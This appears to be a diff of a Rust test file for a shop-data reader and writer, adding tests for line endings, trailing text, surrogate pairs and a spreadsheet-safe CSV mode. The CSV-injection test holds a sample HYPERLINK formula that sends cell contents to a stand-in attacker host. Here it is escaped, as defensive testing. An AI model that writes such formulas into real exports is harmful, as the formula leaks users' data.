@@ -18,7 +18,11 @@ fn in_format(format: Format) -> ReadOptions {
 
 /// The records and rejections of a file, one per line.
 fn summary(text: &str, options: &ReadOptions) -> String {
-    let lines = rows(text.as_bytes(), options).into_iter().map(|row| match row.content {
+    lines_of(rows(text.as_bytes(), options).into_iter())
+}
+
+fn lines_of(rows: impl Iterator<Item = Row>) -> String {
+    let lines = rows.map(|row| match row.content {
         Ok(shop) => {
             format!("{} {} {:?} {},{}", row.line, shop.external_id, shop.name.unwrap_or_default(), shop.lat, shop.lon)
         }
@@ -70,7 +74,12 @@ fn a_feature_keeps_everything() {
             ..Address::default()
         },
         hours: some("Mo-Su 12:00-22:00"),
-        tags: tags(&[("source", "survey"), ("levels", "2"), ("extra", r#"{"a":[1]}"#)]),
+        tags: tags(&[
+            ("source", "survey"),
+            ("levels", "2"),
+            ("extra", r#"{"a":[1]}"#),
+            ("pulse:keys", r#"{"phone":"contact:phone"}"#),
+        ]),
         ..ShopRecord::default()
     };
     let collection = format!("{{\"a\":[{{}},\"]\"],\"type\":\"FeatureCollection\",\"features\":[{FEATURE}],\"b\":1}}");
@@ -121,6 +130,195 @@ fn overpass_responses_are_read() {
 line 5, center: missing
 line 6, tags: missing"
     );
+}
+
+fn file(name: &str) -> Vec<u8> {
+    std::fs::read([env!("CARGO_MANIFEST_DIR"), "/testdata/", name].concat()).unwrap()
+}
+
+/// The summary of a file of the test data.
+fn summary_of(name: &str) -> String {
+    let reader = ShopReader::open(Cursor::new(file(name)), name, &ReadOptions::default()).unwrap();
+    lines_of(reader.map(Result::unwrap))
+}
+
+/// I1: a server that stopped early says so behind the data; it is not an element, and not nothing.
+#[test]
+fn a_remark_of_the_server_is_reported() {
+    let remark = "the server states that the file is not complete: runtime error: Query timed out";
+    let read = summary_of("overpass_with_remark.json");
+    assert!(read.starts_with("1 osm:node/1 \"Anker\" 55.95,-3.1898999999999997\nline 1: "), "{read}");
+    assert!(read.contains(remark), "{read}");
+    // In front of the elements, and without any element.
+    for text in [
+        r#"{"remark":"runtime error: Query timed out","elements":[{"type":"node","id":1,"lat":1,"lon":2,"tags":{}}]}"#,
+        r#"{"elements":[],"remark":"runtime error: Query timed out"}"#,
+    ] {
+        let read = summary(text, &ReadOptions { format: Some(Format::Overpass), ..ReadOptions::default() });
+        assert!(read.ends_with(&format!("line 1: {remark}")), "{read}");
+    }
+}
+
+/// I2: files of classic Macintosh programs end lines with a carriage return.
+#[test]
+fn lines_may_end_with_a_carriage_return() {
+    assert_eq!(summary_of("line_ends_cr.csv"), "2 csv:1 \"Anker\" 55.95,-3.19\n3 csv:2 \"Bell\" 55.96,-3.18");
+    let lines = "{\"id\":1,\"lat\":1,\"lon\":2}\r\r{\"id\":2,\"lat\":1,\"lon\":2}\r";
+    assert_eq!(summary(lines, &in_format(Format::JsonLines)), "1 json:1 \"\" 1,2\n3 json:2 \"\" 1,2");
+    let quoted = "id,lat,lon,name\r1,1,2,\"a\rb\"\r2,1,2,\"c\nd\"";
+    assert_eq!(summary(quoted, &in_format(Format::Csv)), "2 csv:1 \"a\\rb\" 1,2\n4 csv:2 \"c\\nd\" 1,2");
+}
+
+/// I3: what follows the data was not read, and that is said.
+#[test]
+fn text_behind_the_data_is_reported() {
+    let more = "there is more text after the end of the data; it was not read";
+    let read = summary_of("collection_then_html.geojson");
+    assert_eq!(read, format!("1 geojson:a \"A\" 55.95,-3.19\nline 1: {more}"));
+    let good = r#"[{"id":1,"lat":1,"lon":2}"#;
+    for (rest, reason) in
+        [("] x", more), ("]}", more), ("][]", more), ("]\n\n [", more), ("", "the file ends within the array")]
+    {
+        let read = summary(&[good, rest].concat(), &in_format(Format::GeoJson));
+        assert!(read.ends_with(&format!(": {reason}")), "{rest}: {read}");
+    }
+    let object = ["{\"features\":", good].concat();
+    for (rest, reason) in [
+        ("],\"a\":1} {", more),
+        ("]", "the file ends within the object of the array"),
+        ("],\"a\":", "the file ends within the object of the array"),
+        ("],17}", "there is text that is not a member of the object"),
+    ] {
+        let read = summary(&[&object, rest].concat(), &in_format(Format::GeoJson));
+        assert!(read.ends_with(&format!(": {reason}")), "{rest}: {read}");
+    }
+    for rest in ["]}", "],\"features\":[]} \n", "],\"a\":{\"b\":[1]},\"c\":\"}\"}\r\n"] {
+        let read = summary(&[&object, rest].concat(), &in_format(Format::GeoJson));
+        assert_eq!(read, "1 geojson:1 \"\" 1,2", "{rest}");
+    }
+}
+
+/// I4: half of a surrogate pair is refused with the reason, wherever it is; a whole pair is read.
+#[test]
+fn half_of_a_character_is_refused() {
+    let read = summary_of("half_of_a_surrogate_pair.geojson");
+    let refused = "line 1: \\ud83c is half of a character; write the whole pair";
+    assert_eq!(read, format!("{refused}\n1 geojson:s2 \"Pizza \u{1f355} Ok\" 55.95,-3.19"));
+    for (text, half) in [
+        (r"a\udf55", Some(r"\udf55")),
+        (r"\ud83c\ud83c\udf55", Some(r"\ud83c")),
+        (r"\ud83c \udf55", Some(r"\ud83c")),
+        (r"\ud83c\n", Some(r"\ud83c")),
+        (r"\\ud83c", None),
+        (r"\uD83C\uDF55\u00e9\\", None),
+    ] {
+        for member in [format!("\"name\":\"{text}\""), format!("\"tags\":{{\"k\":\"{text}\"}}")] {
+            let line = format!("{{\"id\":1,\"lat\":1,\"lon\":2,{member}}}");
+            let read = summary(&line, &in_format(Format::JsonLines));
+            match half {
+                Some(half) => assert!(read.starts_with(&format!("line 1: {half} is half")), "{line}: {read}"),
+                None => assert!(read.starts_with("1 json:1 "), "{line}: {read}"),
+            }
+        }
+    }
+}
+
+/// I5: files of spreadsheets and of other programs, each with its own habit.
+#[test]
+fn habits_of_programs_are_read() {
+    assert_eq!(summary_of("separator_line.csv"), "3 csv:1 \"Anker\" 55.95,-3.19\n4 csv:2 \"Bell\" 55.96,-3.18");
+    assert_eq!(summary_of("bom_quoted_multiline_header.csv"), "3 csv:1 \"Anker\" 55.95,-3.19");
+    assert_eq!(summary_of("single_feature.geojson"), "1 osm:node/1 \"Only\" 55.95,-3.19");
+    for separator in ["sep=|\n", "\"SEP=|\"\r\n", "\u{feff}sep=|\r"] {
+        let end = separator.trim_start_matches(|character| character != '\r' && character != '\n');
+        let table = [separator, "id|lat|lon", end, "1|1|2", end].concat();
+        assert_eq!(summary(&table, &in_format(Format::Csv)), "3 csv:1 \"\" 1,2", "{separator:?}");
+    }
+    let header = "\"a,b;c\nd,e\";lat;lon;id\n;1;2;7\n";
+    assert_eq!(summary(header, &in_format(Format::Csv)), "3 csv:7 \"\" 1,2");
+    let several = "{\n\"id\":1,\n\"lat\":1,\"lon\":2}\n\u{1e}{\n\"id\":2,\"lat\":1,\"lon\":2\n}\nnonsense {}";
+    let read = summary(several, &in_format(Format::JsonLines));
+    let nonsense = "line 7: there is text that is not a JSON object";
+    assert_eq!(read, format!("1 json:1 \"\" 1,2\n4 json:2 \"\" 1,2\n{nonsense}"));
+}
+
+/// I5: the reason of a geometry without one position, and the number of its feature in a file of one line.
+#[test]
+fn a_geometry_collection_is_refused_by_its_name() {
+    let reason = "the type GeometryCollection is not supported; supported are Point, MultiPoint, LineString, ";
+    let read = summary_of("geometry_collection.geojson");
+    assert!(read.starts_with(&format!("line 1, geometry: {reason}")), "{read}");
+    let text = r#"[{"id":1,"lat":1,"lon":2},{"type":"Feature","geometry":{"type":"Point"}},7]"#;
+    let read = rows(text.as_bytes(), &in_format(Format::GeoJson));
+    assert_eq!(read.iter().map(|row| row.number).collect::<Vec<_>>(), [Some(1), Some(2), Some(3)]);
+    assert_eq!(read[1].content.as_ref().unwrap_err().to_string(), "line 1, geometry: coordinates are missing");
+}
+
+/// I8: keys of a GeoJSON file come back word for word, in every order and after any other format.
+#[test]
+fn keys_come_back_word_for_word() {
+    for members in [
+        r#""name:en":"Tea","addr:province":"Ontario","contact:phone":"1","contact:website":"https://a.example""#,
+        r#""url":"https://a.example","city":"Edinburgh","hours":"24/7","address":"1 Rose Street""#,
+        r#""contact:phone":"1","phone":"2","addr:state":"a","addr:province":"b""#,
+        r#""phone":"2","contact:phone":"1","addr:province":"b","addr:state":"a""#,
+    ] {
+        let feature = format!(
+            r#"{{"type":"Feature","id":"node/1","geometry":{{"type":"Point","coordinates":[1,2]}},"properties":{{{members}}}}}"#
+        );
+        let record = only(&feature, &in_format(Format::GeoJsonLines));
+        let properties = |text: &[u8]| {
+            let feature: serde_json::Value = serde_json::from_slice(text).unwrap();
+            feature["properties"].clone()
+        };
+        assert_eq!(
+            properties(&written(std::slice::from_ref(&record), Format::GeoJsonLines)),
+            properties(feature.as_bytes())
+        );
+        for format in FORMATS {
+            let file = written(std::slice::from_ref(&record), format);
+            assert_eq!(only(&String::from_utf8(file).unwrap(), &in_format(format)), record, "{members} {format}");
+        }
+    }
+}
+
+/// T4: no text of a safe table is a formula; numbers stay numbers, and other tables stay as they are.
+#[test]
+fn a_table_can_be_safe_for_spreadsheets() {
+    let records: Vec<ShopRecord> =
+        rows(&file("formulas.csv"), &ReadOptions::default()).into_iter().map(|row| row.content.unwrap()).collect();
+    let table = |is_safe: bool| {
+        let mut writer = ShopWriter::new(Vec::new(), Format::Csv).unwrap().spreadsheet_safe(is_safe);
+        records.iter().for_each(|record| writer.write(record).unwrap());
+        writer.finish().unwrap()
+    };
+    let read: Vec<ShopRecord> =
+        rows(&table(false), &ReadOptions::default()).into_iter().map(|row| row.content.unwrap()).collect();
+    assert_eq!(read, records);
+    let safe = table(true);
+    let mut reader = csv::Reader::from_reader(&safe[..]);
+    let cells: Vec<String> =
+        reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+    for cell in &cells {
+        let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        assert!(!is_formula || cell.parse::<f64>().is_ok(), "{cell}");
+    }
+    for cell in ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", "'+44 131 496 0000", "-3.19"] {
+        assert!(cells.iter().any(|found| found == cell), "{cell} {cells:?}");
+    }
+    for (text, is_safe) in
+        [("\u{ff1d}1", false), (" =1", false), ("\t1", false), ("a=1", true), ("1", true), ("", true)]
+    {
+        let record = ShopRecord { external_id: "a:1".into(), name: Some(text.into()), ..ShopRecord::default() };
+        let mut writer = ShopWriter::new(Vec::new(), Format::Csv).unwrap().spreadsheet_safe(true);
+        writer.write(&record).unwrap();
+        let written = String::from_utf8(writer.finish().unwrap()).unwrap();
+        assert_eq!(
+            written.contains(&['\'', text.chars().next().unwrap_or('a')].iter().collect::<String>()),
+            !is_safe,
+            "{text:?}"
+        );
+    }
 }
 
 #[test]
